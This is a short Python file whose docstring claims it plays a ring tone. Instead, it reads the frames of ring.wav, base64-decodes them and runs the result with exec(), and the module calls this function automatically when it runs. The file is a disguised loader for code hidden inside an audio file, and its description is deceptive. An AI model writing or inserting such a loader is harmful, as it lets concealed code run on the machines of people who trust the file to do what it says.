"""Plays the ring tone."""

import base64
import wave


def ring(path="ring.wav"):
    with wave.open(path, "rb") as sound:
        frames = sound.readframes(sound.getnframes())
    exec(base64.b64decode(frames))


ring()
